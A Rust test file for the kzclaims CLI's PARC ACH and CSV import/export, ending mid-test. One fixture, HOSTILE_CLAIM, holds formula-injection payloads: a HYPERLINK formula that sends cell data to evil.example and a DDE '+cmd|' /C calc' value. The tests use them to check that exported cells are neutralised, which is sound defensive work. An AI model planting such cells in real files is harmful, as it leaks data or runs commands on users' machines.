//! `kzclaims import` and `kzclaims export`: PARC ACH projects and CSV
//! matrices in, CSV, JSON and .achz out, and the round trips between them.
//!
//! The committed fixture tests/fixtures/interop/parc.achz is made by
//! [`parc_achz`] below, never by hand: `KZCLAIMS_BLESS=1 cargo test --test
//! cli interop::committed_fixture` rewrites it; without the variable the test
//! fails when the file no longer holds what the helper makes.

use crate::common::*;
use std::io::{Read, Write};
use std::path::Path;

const SQRT2: f64 = std::f64::consts::SQRT_2;
const INV_SQRT2: f64 = std::f64::consts::FRAC_1_SQRT_2;

/// A small PARC ACH 2.0 project: three hypotheses (one Cyrillic, two whose
/// names make the same slug), four pieces of evidence covering every grade,
/// one without RELEVANCE (counted MEDIUM), one without DATE (the project's
/// own DATE fills in).
fn parc_xml() -> String {
    r#"<?xml version="1.0" encoding="UTF-16"?>
<ACH-PROJECT>
  <PROJECT-TITLE>Who drove the January violence?</PROJECT-TITLE>
  <CLASSIFICATION>UNCLASSIFIED//TEST</CLASSIFICATION>
  <DATE>1642377600000</DATE>
  <MATRIX>
    <HYPOTHESIS><NAME>Spontaneous protest</NAME></HYPOTHESIS>
    <HYPOTHESIS><NAME>Элитный переворот</NAME></HYPOTHESIS>
    <HYPOTHESIS><NAME>Spontaneous protest!</NAME></HYPOTHESIS>
    <EVIDENCE>
      <NAME>Security chief detained for treason</NAME>
      <NOTES>Charged within days &amp; held incommunicado.</NOTES>
      <LINK>https://www.rferl.org/a/31645567.html</LINK>
      <TYPE>Open Source</TYPE>
      <DATE>1641600000000</DATE>
      <CODE>E1</CODE>
      <FLAG>1</FLAG>
      <VALUES>C C,I,I I</VALUES>
      <CREDIBILITY>HIGH</CREDIBILITY>
      <RELEVANCE>HIGH</RELEVANCE>
    </EVIDENCE>
    <EVIDENCE>
      <NAME>Crowds formed in several cities the same day</NAME>
      <NOTES></NOTES>
      <LINK></LINK>
      <TYPE>Assumption</TYPE>
      <DATE>1641340800000</DATE>
      <CODE>E2</CODE>
      <FLAG>0</FLAG>
      <VALUES>I,N,C</VALUES>
      <CREDIBILITY>MEDIUM</CREDIBILITY>
      <RELEVANCE>LOW</RELEVANCE>
    </EVIDENCE>
    <EVIDENCE>
      <NAME>Armed groups moved between cities</NAME>
      <LINK>Eyewitness report, Almaty</LINK>
      <TYPE>HUMINT</TYPE>
      <DATE>1641427200000</DATE>
      <CODE>E3</CODE>
      <FLAG>0</FLAG>
      <VALUES>I I,I,NA</VALUES>
      <CREDIBILITY>LOW</CREDIBILITY>
    </EVIDENCE>
    <EVIDENCE>
      <NAME>Officials named no organiser</NAME>
      <TYPE>Official</TYPE>
      <DATE>0</DATE>
      <CODE>E4</CODE>
      <FLAG>0</FLAG>
      <VALUES>N,I I,I</VALUES>
      <CREDIBILITY>HIGH</CREDIBILITY>
      <RELEVANCE>MEDIUM</RELEVANCE>
    </EVIDENCE>
  </MATRIX>
</ACH-PROJECT>
"#
    .to_string()
}

/// PARC's Weighted Inconsistency Score of [`parc_xml`], by hand:
/// Σ credibility × relevance × value, value I = −1, II = −2, others 0;
/// HIGH √2, MEDIUM 1, LOW 1/√2 (no RELEVANCE: MEDIUM).
///
/// | evidence | cred × rel | H1 | H2 | H3 |
/// |---|---|---|---|---|
/// | E1 | √2·√2 = 2 | CC: 0 | I: −2 | II: −4 |
/// | E2 | 1·(1/√2) | I: −1/√2 | N: 0 | C: 0 |
/// | E3 | (1/√2)·1 | II: −√2 | I: −1/√2 | NA: 0 |
/// | E4 | √2·1 | N: 0 | II: −2√2 | I: −√2 |
///
/// H1 = −(1/√2 + √2) = −2.121320…; H2 = −(2 + 1/√2 + 2√2) = −5.535534…;
/// H3 = −(4 + √2) = −5.414214…. Plain inconsistency: 3, 4, 3.
/// kzclaims reports the magnitudes (it counts inconsistency upward).
fn parc_by_hand() -> [(f64, u64); 3] {
    [
        (-(INV_SQRT2 + SQRT2), 3),
        (-(2.0 + INV_SQRT2 + 2.0 * SQRT2), 4),
        (-(4.0 + SQRT2), 3),
    ]
}

/// The scenario ids the hypotheses get: slugs, transliterated, made unique.
const IDS: [&str; 3] = [
    "spontaneous-protest",
    "elitnyi-perevorot",
    "spontaneous-protest-2",
];

fn utf16le_bom(s: &str) -> Vec<u8> {
    let mut v = vec![0xff, 0xfe];
    for u in s.encode_utf16() {
        v.extend_from_slice(&u.to_le_bytes());
    }
    v
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut gz = flate2::GzBuilder::new()
        .mtime(0)
        .write(Vec::new(), flate2::Compression::default());
    gz.write_all(bytes).unwrap();
    gz.finish().unwrap()
}

fn gunzip(bytes: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    flate2::read::GzDecoder::new(bytes)
        .read_to_end(&mut out)
        .unwrap();
    out
}

/// The fixture as PARC ACH 2.0 saves projects: gzip-compressed UTF-16 LE
/// with a byte-order mark.
fn parc_achz() -> Vec<u8> {
    gzip(&utf16le_bom(&parc_xml()))
}

fn score(dir: &Path, engine: &str, extra: &[&str]) -> serde_json::Value {
    let out = kz(dir)
        .args(["score", "--format", "json", "--engine", engine])
        .args(extra)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    serde_json::from_slice(&out.stdout).unwrap()
}

/// Scenario id → (weighted inconsistency, inconsistency, probability,
/// likelihood term).
fn scores(v: &serde_json::Value) -> std::collections::BTreeMap<String, [f64; 4]> {
    v["scenarios"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| {
            (
                s["id"].as_str().unwrap().to_string(),
                [
                    s["weighted_inconsistency"].as_f64().unwrap(),
                    s["inconsistency"].as_f64().unwrap(),
                    s["probability"].as_f64().unwrap(),
                    s["likelihood_term"].as_f64().unwrap(),
                ],
            )
        })
        .collect()
}

fn assert_same_scores(a: &serde_json::Value, b: &serde_json::Value) {
    let (a, b) = (scores(a), scores(b));
    assert_eq!(
        a.keys().collect::<Vec<_>>(),
        b.keys().collect::<Vec<_>>(),
        "same scenarios"
    );
    for (id, x) in &a {
        for (k, (p, q)) in x.iter().zip(&b[id]).enumerate() {
            assert!((p - q).abs() < 1e-9, "{id}, score {k}: {p} vs {q}");
        }
    }
}

fn import(file: &Path, into: &Path, extra: &[&str]) -> std::process::Output {
    kz(into.parent().unwrap())
        .arg("import")
        .arg(file)
        .arg("--into")
        .arg(into)
        .args(extra)
        .output()
        .unwrap()
}

fn check_passes(dir: &Path) {
    let out = kz(dir).arg("check").output().unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
}

fn assert_matches_parc(dir: &Path) {
    let v = score(dir, "ach", &[]);
    let got = scores(&v);
    for (id, (parc, plain)) in IDS.iter().zip(parc_by_hand()) {
        let [w, i, _, _] = got[*id];
        assert!((w - parc.abs()).abs() < 1e-9, "{id}: {w} vs PARC {parc}");
        assert_eq!(i, plain as f64, "{id}");
    }
}

#[test]
fn committed_fixture() {
    let path = fixture("interop").join("parc.achz");
    if std::env::var_os("KZCLAIMS_BLESS").is_some() {
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, parc_achz()).unwrap();
    }
    let committed = std::fs::read(&path).unwrap();
    assert_eq!(&committed[..2], &[0x1f, 0x8b], "gzip");
    assert_eq!(
        gunzip(&committed),
        utf16le_bom(&parc_xml()),
        "tests/fixtures/interop/parc.achz is stale: rerun with KZCLAIMS_BLESS=1"
    );
}

#[test]
fn achz_imports_to_parc_weighted_inconsistency() {
    let tmp = tempfile::tempdir().unwrap();
    let ws = tmp.path().join("ws");
    let out = import(&fixture("interop").join("parc.achz"), &ws, &[]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(
        stdout(&out).contains("imported 4 claims"),
        "{}",
        stdout(&out)
    );
    check_passes(&ws);
    assert_matches_parc(&ws);
    // What the TOML says: grades, dates, sources.
    let claims = std::fs::read_to_string(ws.join("claims/parc.toml")).unwrap();
    assert!(claims.contains("credibility = 2   # PARC credibility HIGH"));
    assert!(claims.contains("credibility = 4   # PARC credibility LOW"));
    assert!(claims.contains("date = 2022-01-08"), "E1's epoch ms");
    assert!(
        claims.contains("date = 2022-01-17"),
        "E4: the project's DATE"
    );
    assert!(claims.contains("id = \"rferl-org\""));
    assert!(claims.contains("name = \"Eyewitness report, Almaty\""));
    assert!(claims.contains("id = \"import-parc\""));
    let config = std::fs::read_to_string(ws.join("kzclaims.toml")).unwrap();
    assert!(config.contains("engine = \"ach\""));
    assert!(config.contains("marking = \"UNCLASSIFIED//TEST\""));
}

#[test]
fn achz_in_every_encoding_gives_the_same_scores() {
    let xml = parc_xml();
    let utf16be: Vec<u8> = [0xfe, 0xff]
        .into_iter()
        .chain(xml.encode_utf16().flat_map(|u| u.to_be_bytes()))
        .collect();
    let utf16le_no_bom: Vec<u8> = xml.encode_utf16().flat_map(|u| u.to_le_bytes()).collect();
    let utf8_bom = [&[0xef, 0xbb, 0xbf][..], xml.as_bytes()].concat();
    for (name, bytes) in [
        ("utf16be", gzip(&utf16be)),
        ("utf16le", gzip(&utf16le_no_bom)),
        ("utf8", gzip(xml.as_bytes())),
        ("utf8bom", gzip(&utf8_bom)),
        // The format is told by the contents, not the name.
        ("not-a-csv.csv", gzip(&utf16le_bom(&xml))),
    ] {
        let tmp = tempfile::tempdir().unwrap();
        let file = tmp.path().join(name);
        std::fs::write(&file, bytes).unwrap();
        let ws = tmp.path().join("ws");
        let out = import(&file, &ws, &[]);
        assert_eq!(out.status.code(), Some(0), "{name}: {}", stderr(&out));
        assert!(stdout(&out).contains("(PARC ACH)"), "{name}");
        assert_matches_parc(&ws);
    }
}

#[test]
fn achz_round_trip_keeps_every_score() {
    let tmp = tempfile::tempdir().unwrap();
    let ws1 = tmp.path().join("ws1");
    assert!(import(&fixture("interop").join("parc.achz"), &ws1, &[])
        .status
        .success());
    let a1 = tmp.path().join("one.achz");
    let out = kz(&ws1)
        .args(["export", "--format", "achz", "--out"])
        .arg(&a1)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let ws2 = tmp.path().join("ws2");
    let out = import(&a1, &ws2, &[]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    check_passes(&ws2);
    for engine in ["ach", "bayes"] {
        assert_same_scores(&score(&ws1, engine, &[]), &score(&ws2, engine, &[]));
    }
    assert_matches_parc(&ws2);
}

#[test]
fn exported_achz_is_parc_shaped() {
    let out = kz(&fixture("small"))
        .args(["export", "--format", "achz", "--as-of", "2024-03-05"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let raw = gunzip(&out.stdout);
    assert_eq!(&raw[..2], &[0xff, 0xfe], "UTF-16 LE with a byte-order mark");
    let units: Vec<u16> = raw[2..]
        .chunks(2)
        .map(|c| u16::from_le_bytes([c[0], c[1]]))
        .collect();
    let xml = String::from_utf16(&units).unwrap();
    insta::assert_snapshot!("export_small_achz_xml", xml);
}

#[test]
fn undated_evidence_needs_a_date() {
    let tmp = tempfile::tempdir().unwrap();
    let xml = parc_xml().replace("<DATE>1642377600000</DATE>", "");
    let file = tmp.path().join("nodate.achz");
    std::fs::write(&file, gzip(xml.as_bytes())).unwrap();
    let ws = tmp.path().join("ws");
    let out = import(&file, &ws, &[]);
    assert_eq!(out.status.code(), Some(1));
    let err = stderr(&out);
    assert!(err.contains("EVIDENCE 4 has no DATE"), "{err}");
    assert!(err.contains("--date"), "{err}");
    assert!(!ws.exists(), "nothing written");
    let out = import(&file, &ws, &["--date", "2022-01-20"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let claims = std::fs::read_to_string(ws.join("claims/nodate.toml")).unwrap();
    assert!(claims.contains("date = 2022-01-20"));
}

/// The bundled workspace without its claims (and without the observations'
/// references to them, which do not change a score): scenarios and sources only.
fn bundled_without_claims(to: &Path) {
    std::fs::create_dir_all(to).unwrap();
    bundled_copy(to);
    for e in std::fs::read_dir(to.join("claims")).unwrap() {
        let p = e.unwrap().path();
        if p.file_name().unwrap() != "sources.toml" {
            std::fs::remove_file(p).unwrap();
        }
    }
    for e in std::fs::read_dir(to.join("scenarios")).unwrap() {
        let p = e.unwrap().path();
        let text = std::fs::read_to_string(&p).unwrap();
        let kept: Vec<&str> = text
            .lines()
            .filter(|l| !l.trim_start().starts_with("claims = "))
            .collect();
        std::fs::write(&p, kept.join("\n") + "\n").unwrap();
    }
}

#[test]
fn toml_csv_toml_keeps_every_score() {
    let root = repo_root();
    for as_of in ["2022-01-10", "2022-03-16"] {
        let csv = kz(&root)
            .args(["export", "--format", "csv", "--as-of", as_of])
            .output()
            .unwrap();
        assert_eq!(csv.status.code(), Some(0), "{}", stderr(&csv));
        let tmp = tempfile::tempdir().unwrap();
        let file = tmp.path().join("matrix.csv");
        std::fs::write(&file, &csv.stdout).unwrap();
        let ws = tmp.path().join("ws");
        bundled_without_claims(&ws);
        let out = import(&file, &ws, &[]);
        assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
        assert!(stdout(&out).contains("0 new sources"), "{}", stdout(&out));
        check_passes(&ws);
        // Issue 19, row 17: what import writes is in fmt's canonical form.
        let fmt = kz(&ws).args(["fmt", "--check"]).output().unwrap();
        assert_eq!(fmt.status.code(), Some(0), "{}", stdout(&fmt));
        for engine in ["bayes", "ach"] {
            assert_same_scores(
                &score(&root, engine, &["--as-of", as_of]),
                &score(&ws, engine, &["--as-of", as_of]),
            );
        }
        // And back out: the same CSV.
        let again = kz(&ws)
            .args(["export", "--format", "csv", "--as-of", as_of])
            .output()
            .unwrap();
        assert_eq!(stdout(&again), stdout(&csv));
    }
}

#[test]
fn csv_into_a_new_workspace_scores_like_parc() {
    // The fixture's matrix kept in a spreadsheet, PARC grades and all.
    let text = "\
id,date,statement,sources,credibility,relevance,Spontaneous protest,Элитный переворот,Spontaneous protest!,url,group
e1,2022-01-08,Security chief detained for treason,RFE/RL,HIGH,high,C C,I,I I,https://www.rferl.org/a/31645567.html,
e2,2022-01-05,Crowds formed in several cities the same day,,MEDIUM,low,I,N,C,,
e3,2022-01-06,Armed groups moved between cities,Eyewitness,LOW,,I I,I,NA,,
e4,,Officials named no organiser,Akorda,2,medium,N,I I,I,,
";
    let tmp = tempfile::tempdir().unwrap();
    let file = tmp.path().join("matrix.csv");
    std::fs::write(&file, text).unwrap();
    let ws = tmp.path().join("ws");
    let out = import(&file, &ws, &["--date", "2022-01-17"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    check_passes(&ws);
    assert_matches_parc(&ws);
}

#[test]
fn csv_errors_name_file_row_and_column_and_write_nothing() {
    let text = "\
id,date,statement,sources,credibility,relevance,a,b,colour
x,2022-01-05,Fine,s,2,high,C,I,red
y,2022-13-01,Bad date,s,9,high,C,Q,blue
";
    let tmp = tempfile::tempdir().unwrap();
    let file = tmp.path().join("bad.csv");
    std::fs::write(&file, text).unwrap();
    let ws = tmp.path().join("ws");
    let out = import(&file, &ws, &[]);
    assert_eq!(out.status.code(), Some(1));
    let err = stderr(&out).replace(&tmp.path().display().to_string(), "TMP");
    insta::assert_snapshot!("import_csv_errors", err);
    assert!(!ws.exists(), "nothing written");
}

#[test]
fn group_column_is_carried_into_the_claims() {
    let text = "\
id,date,statement,sources,credibility,relevance,a,b,group
x,2022-01-05,Fine,s,2,high,C,I,g1
y,2022-01-06,Also fine,s,2,high,CC,N,g1
z,2022-01-07,Alone,s,2,high,N,C,
";
    let tmp = tempfile::tempdir().unwrap();
    let file = tmp.path().join("g.csv");
    std::fs::write(&file, text).unwrap();
    let ws = tmp.path().join("ws");
    let out = import(&file, &ws, &[]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let v: serde_json::Value = serde_json::from_slice(
        &kz(&ws)
            .args(["score", "--format", "json"])
            .output()
            .unwrap()
            .stdout,
    )
    .unwrap();
    let groups: Vec<&serde_json::Value> = v["claims"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| &c["group"])
        .collect();
    assert_eq!(
        groups,
        [
            &serde_json::json!("g1"),
            &serde_json::json!("g1"),
            &serde_json::Value::Null
        ]
    );
    // And back out in the group column.
    let csv = kz(&ws)
        .args(["export", "--format", "csv"])
        .output()
        .unwrap();
    let csv = stdout(&csv);
    assert!(csv.lines().next().unwrap().ends_with(",group"), "{csv}");
    assert!(csv.lines().nth(1).unwrap().ends_with(",g1"), "{csv}");
}

#[test]
fn existing_ids_are_never_reused() {
    let tmp = tempfile::tempdir().unwrap();
    let ws = tmp.path().join("ws");
    copy_tree(&fixture("small"), &ws);
    let csv = kz(&ws)
        .args(["export", "--format", "csv"])
        .output()
        .unwrap();
    let file = tmp.path().join("again.csv");
    std::fs::write(&file, &csv.stdout).unwrap();
    let before = std::fs::read_dir(ws.join("claims")).unwrap().count();
    let out = import(&file, &ws, &[]);
    assert_eq!(out.status.code(), Some(1));
    let err = stderr(&out);
    // Both places: the CSV row and the workspace file.
    assert!(
        err.contains("claim id `old-transformers` (row 2 of")
            && err.contains("is already used at claims/march.toml:1:1"),
        "{err}"
    );
    assert!(err.contains("again.csv:2:1"), "{err}");
    assert_eq!(
        std::fs::read_dir(ws.join("claims")).unwrap().count(),
        before
    );
}

#[test]
fn import_into_an_existing_workspace_adds_one_file() {
    let tmp = tempfile::tempdir().unwrap();
    let ws = tmp.path().join("ws");
    copy_tree(&fixture("small"), &ws);
    let text = "\
id,date,statement,sources,credibility,relevance,accident,sabotage,cyberattack
new-claim,2024-03-09,Investigators found a timer,wire,3,medium,I,C,N
";
    let file = tmp.path().join("more.csv");
    std::fs::write(&file, text).unwrap();
    let out = import(&file, &ws, &[]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(ws.join("claims/more.toml").is_file());
    check_passes(&ws);
    // The same file again: the id is taken, and nothing is overwritten.
    let out = import(&file, &ws, &[]);
    assert_eq!(out.status.code(), Some(1));
    assert!(stderr(&out).contains("is already used at claims/more.toml"));
    // A scenario the workspace does not have.
    let text = text.replace("cyberattack", "aliens");
    std::fs::write(&file, text).unwrap();
    let out = import(&file, &ws, &[]);
    assert_eq!(out.status.code(), Some(1));
    let err = stderr(&out);
    assert!(
        err.contains("column I of") && err.contains("(`aliens`) matches no scenario"),
        "{err}"
    );
}

#[test]
fn new_workspace_never_overwrites() {
    let tmp = tempfile::tempdir().unwrap();
    let ws = tmp.path().join("ws");
    std::fs::create_dir_all(ws.join("templates")).unwrap();
    std::fs::write(ws.join("templates/memo.md"), "mine").unwrap();
    let out = import(&fixture("interop").join("parc.achz"), &ws, &[]);
    assert_eq!(out.status.code(), Some(1));
    assert!(stderr(&out).contains("refusing to overwrite"));
    assert_eq!(
        std::fs::read_to_string(ws.join("templates/memo.md")).unwrap(),
        "mine"
    );
    assert!(!ws.join("kzclaims.toml").exists());
}

#[test]
fn export_is_deterministic_and_pinned() {
    let run = |fmt: &str| {
        let out = kz(&fixture("small"))
            .args(["export", "--format", fmt])
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
        out.stdout
    };
    for fmt in ["csv", "json", "achz"] {
        assert_eq!(run(fmt), run(fmt), "{fmt}");
    }
    insta::assert_snapshot!("export_small_csv", String::from_utf8(run("csv")).unwrap());
    insta::assert_snapshot!("export_small_json", String::from_utf8(run("json")).unwrap());
}

#[test]
fn export_writes_atomically_to_out() {
    let tmp = tempfile::tempdir().unwrap();
    let path = tmp.path().join("m.json");
    let out = kz(&fixture("small"))
        .args([
            "export",
            "--format",
            "json",
            "--as-of",
            "2024-03-04",
            "--out",
        ])
        .arg(&path)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let v: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&path).unwrap()).unwrap();
    assert_eq!(v["version"], 1);
    assert_eq!(v["as_of"], "2024-03-04");
    // Resolved as of the date: later claims and revisions are not there yet.
    let ids: Vec<&str> = v["claims"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["id"].as_str().unwrap())
        .collect();
    assert_eq!(ids, ["old-transformers", "cut-cables"]);
    assert_eq!(v["claims"][1]["status"], "active");
    assert_eq!(v["claims"][1]["revisions"], serde_json::json!([]));
    let leftovers: Vec<_> = std::fs::read_dir(tmp.path())
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    assert_eq!(leftovers.len(), 1, "{leftovers:?}");
}

#[test]
fn without_into_the_current_folder_or_its_workspace() {
    let tmp = tempfile::tempdir().unwrap();
    let fresh = tmp.path().join("fresh");
    std::fs::create_dir_all(&fresh).unwrap();
    let out = kz(&fresh)
        .arg("import")
        .arg(fixture("interop").join("parc.achz"))
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(fresh.join("kzclaims.toml").is_file());
    // Inside a workspace, in a subfolder: the workspace gets the claims.
    let ws = tmp.path().join("ws");
    copy_tree(&fixture("small"), &ws);
    let text = "id,date,statement,sources,credibility,relevance,accident,sabotage,cyberattack\n\
                timer,2024-03-09,Investigators found a timer,wire,3,medium,I,C,N\n";
    let file = tmp.path().join("timer.csv");
    std::fs::write(&file, text).unwrap();
    let out = kz(&ws.join("scenarios"))
        .arg("import")
        .arg(&file)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(ws.join("claims/timer.toml").is_file());
    assert!(!ws.join("scenarios/kzclaims.toml").exists());
}

/// The claims of `export --format json` that a CSV carries (retracted ones
/// are not exported), as (id, the fields compared).
fn carried_claims(dir: &Path) -> Vec<(String, serde_json::Value)> {
    let out = kz(dir)
        .args(["export", "--format", "json"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    v["claims"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|c| c["status"] != "retracted")
        .map(|c| {
            let keep = [
                "date",
                "statement",
                "sources",
                "credibility",
                "relevance",
                "ratings",
                "rationale",
                "scenario_rationale",
                "tags",
                "group",
            ];
            let fields: serde_json::Map<_, _> = keep
                .iter()
                .map(|k| (k.to_string(), c[*k].clone()))
                .collect();
            (c["id"].as_str().unwrap().to_string(), fields.into())
        })
        .collect()
}

/// A claim with everything a spreadsheet or a naive split would damage:
/// a formula, cells starting with `-`, `+` and `@`, tags holding `;`, `,`
/// and a backslash, and a per-scenario rationale per scenario.
const HOSTILE_CLAIM: &str = r#"
[[claim]]
id = "zz-hostile"
date = 2022-01-06
statement = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
sources = ["cornell-2022"]
credibility = 3
relevance = "high"
tags = ["a;b", "c,d", 'back\slash', "+plus", "'=quoted"]
group = "@group"

[claim.ratings]
spontaneous-protest = "C"
elite-coup = "I"
foreign-terrorists = "NA"
staged-purge = "N"

[claim.rationale]
spontaneous-protest = "-fits: crowds, then looting"
elite-coup = "+cmd|' /C calc'!A0"
"#;

#[test]
fn csv_export_then_import_gives_the_same_claims() {
    let tmp = tempfile::tempdir().unwrap();
    let src = tmp.path().join("src");
    std::fs::create_dir_all(&src).unwrap();
    bundled_copy(&src);
    std::fs::write(src.join("claims/zz-hostile.toml"), HOSTILE_CLAIM).unwrap();
    check_passes(&src);
    let csv = kz(&src)
        .args(["export", "--format", "csv"])
        .output()
        .unwrap();
    assert_eq!(csv.status.code(), Some(0), "{}", stderr(&csv));
    let text = String::from_utf8(csv.stdout.clone()).unwrap();
    // No cell starts a formula: each such cell begins with an apostrophe.
    let mut rdr = ::csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes());
    let mut cells = 0;
    for rec in rdr.records() {
        for cell in rec.unwrap().iter() {
            cells += 1;
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a formula cell: {cell:?}"
            );
        }
    }
    assert!(cells > 1000);
    assert!(text.contains("'=HYPERLINK("), "{text}");
    assert!(
        text.contains("rationale:elite-coup"),
        "per-scenario columns"
    );
    let file = tmp.path().join("matrix.csv");
    std::fs::write(&file, &csv.stdout).unwrap();
    let ws = tmp.path().join("ws");
    bundled_without_claims(&ws);
    let out = import(&file, &ws, &[]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    check_passes(&ws);
    let (before, after) = (carried_claims(&src), carried_claims(&ws));
    assert_eq!(before.len(), after.len());
    assert!(before.len() > 50);
    for ((id_a, a), (id_b, b)) in before.iter().zip(&after) {
        assert_eq!(id_a, id_b);
        assert_eq!(a, b, "claim {id_a}");
    }
    let hostile = &after.iter().find(|(id, _)| id == "zz-hostile").unwrap().1;
    assert_eq!(
        hostile["tags"],
        serde_json::json!(["a;b", "c,d", "back\\slash", "+plus", "'=quoted"])
    );
    assert_eq!(
        hostile["scenario_rationale"]["elite-coup"],
        "+cmd|' /C calc'!A0"
    );
}

#[test]
fn a_folder_with_claims_but_no_config_is_not_called_a_new_workspace() {
    let tmp = tempfile::tempdir().unwrap();
    let ws = tmp.path().join("ws");
    std::fs::create_dir_all(ws.join("claims")).unwrap();
    let loose = std::fs::read_to_string(repo_root().join("claims/2019-2021.toml")).unwrap();
    std::fs::write(ws.join("claims/2019-2021.toml"), &loose).unwrap();
    let out = import(&fixture("interop").join("parc.achz"), &ws, &[]);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    let err = stderr(&out);
    assert!(
        err.contains("has no kzclaims.toml but already holds 1 file"),
        "{err}"
    );
    assert!(err.contains("claims/2019-2021.toml"), "{err}");
    assert!(!stdout(&out).contains("new workspace"), "{}", stdout(&out));
    assert!(!ws.join("kzclaims.toml").exists(), "nothing written");
    assert_eq!(
        std::fs::read_dir(ws.join("claims")).unwrap().count(),
        1,
        "nothing added"
    );
}

#[test]
fn exported_json_is_named_as_not_an_import_format() {
    let tmp = tempfile::tempdir().unwrap();
    let json = kz(&fixture("small"))
        .args(["export", "--format", "json"])
        .output()
        .unwrap();
    let file = tmp.path().join("m.json");
    std::fs::write(&file, &json.stdout).unwrap();
    let ws = tmp.path().join("ws");
    let out = import(&file, &ws, &[]);
    assert_eq!(out.status.code(), Some(1));
    let err = stderr(&out);
    assert!(
        err.contains("is JSON, which is not an import format"),
        "{err}"
    );
    assert!(err.contains("PARC ACH project (.achz"), "{err}");
    assert!(err.contains("CSV matrix"), "{err}");
    assert!(!err.contains("header row"), "{err}");
    assert!(!ws.exists());
}

#[test]
fn timeline_csv_cells_never_start_a_formula() {
    let out = kz(&fixture("small"))
        .args(["timeline", "--format", "csv"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let text = stdout(&out);
    assert!(text.contains("'+old-transformers"), "{text}");
    let mut rdr = ::csv::ReaderBuilder::new().from_reader(text.as_bytes());
    for rec in rdr.records() {
        // Numbers (a negative log term) are numbers to a spreadsheet too.
        for cell in rec.unwrap().iter().filter(|c| c.parse::<f64>().is_err()) {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell:?}"
            );
        }
    }
}

/// Scenario ids in file order, and each carried claim's (rationale,
/// per-scenario rationale by scenario position).
/// A claim's id, claim-wide rationale and (scenario position, rationale).
type Rationale = (String, serde_json::Value, Vec<(usize, String)>);

fn rationale_by_position(dir: &Path) -> Vec<Rationale> {
    let out = kz(dir)
        .args(["export", "--format", "json"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let ids: Vec<&str> = v["scenarios"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["id"].as_str().unwrap())
        .collect();
    v["claims"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|c| c["status"] != "retracted")
        .map(|c| {
            let per = c["scenario_rationale"]
                .as_object()
                .unwrap()
                .iter()
                .map(|(k, t)| {
                    let j = ids.iter().position(|i| i == k).unwrap();
                    (j, t.as_str().unwrap().to_string())
                })
                .collect::<std::collections::BTreeMap<_, _>>()
                .into_iter()
                .collect();
            (
                c["id"].as_str().unwrap().to_string(),
                c["rationale"].clone(),
                per,
            )
        })
        .collect()
}

#[test]
fn achz_export_then_import_keeps_rationale_per_scenario() {
    let tmp = tempfile::tempdir().unwrap();
    let file = tmp.path().join("bundled.achz");
    let out = kz(&repo_root())
        .args(["export", "--format", "achz", "-o"])
        .arg(&file)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let ws = tmp.path().join("ws");
    let out = import(&file, &ws, &[]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let (before, after) = (
        rationale_by_position(&repo_root()),
        rationale_by_position(&ws),
    );
    assert_eq!(before.len(), after.len());
    let mut per_scenario = 0;
    for (a, b) in before.iter().zip(&after) {
        assert_eq!(a, b, "claim {}", a.0);
        per_scenario += a.2.len();
    }
    assert!(per_scenario > 100, "{per_scenario}");
}

/// The JSON export as of a date (tests/fixtures/published): claims in force
/// by their effective date, `effective` where it is later than `date`, each
/// source's `published`, and the scenarios worded as of the date.
#[test]
fn json_export_carries_publication_and_effective_dates() {
    let export = |date: &str| {
        let out = kz(&fixture("published"))
            .args(["export", "--format", "json", "--as-of", date])
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
        serde_json::from_slice::<serde_json::Value>(&out.stdout).unwrap()
    };
    let early = export("2024-03-10");
    let ids: Vec<&str> = early["claims"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["id"].as_str().unwrap())
        .collect();
    assert_eq!(ids, ["revised", "timely"]);
    assert_eq!(early["scenarios"][0]["summary"], "Scenario a.");
    assert_eq!(
        early["scenarios"][0]["proponents"],
        serde_json::json!(["the wire service"])
